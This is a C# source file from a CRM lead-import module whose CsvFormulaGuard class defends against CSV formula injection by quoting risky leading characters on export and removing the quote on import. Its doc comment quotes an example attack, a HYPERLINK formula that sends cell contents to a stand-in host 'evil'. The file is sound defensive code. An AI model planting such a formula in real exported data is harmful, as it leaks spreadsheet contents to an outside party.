namespace ChatCrm.Core.Leads.Import;

/// <summary>
/// CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening an exported file runs a cell starting with
/// = + - or @ (and tab or carriage return, which some spreadsheets skip before looking) as a formula, so a lead
/// whose name is <c>=HYPERLINK("http://evil/?"&amp;A1,"Click")</c>, typed by anyone who can create a lead, would run on the
/// agent's machine. The export prefixes such cells with a single quote, which spreadsheets read as "this is text" and
/// do not show; the import removes that one quote again, so an export imports back unchanged (a phone "+49 …" too).
/// </summary>
public static class CsvFormulaGuard
{
    private const char Quote = '\'';

    public static string Protect(string? cell) =>
        string.IsNullOrEmpty(cell) ? "" : IsRisky(cell[0]) ? Quote + cell : cell;

    public static string Unprotect(string cell) =>
        cell.Length >= 2 && cell[0] == Quote && IsRisky(cell[1]) ? cell[1..] : cell;

    private static bool IsRisky(char first) => first is '=' or '+' or '-' or '@' or '\t' or '\r';
}
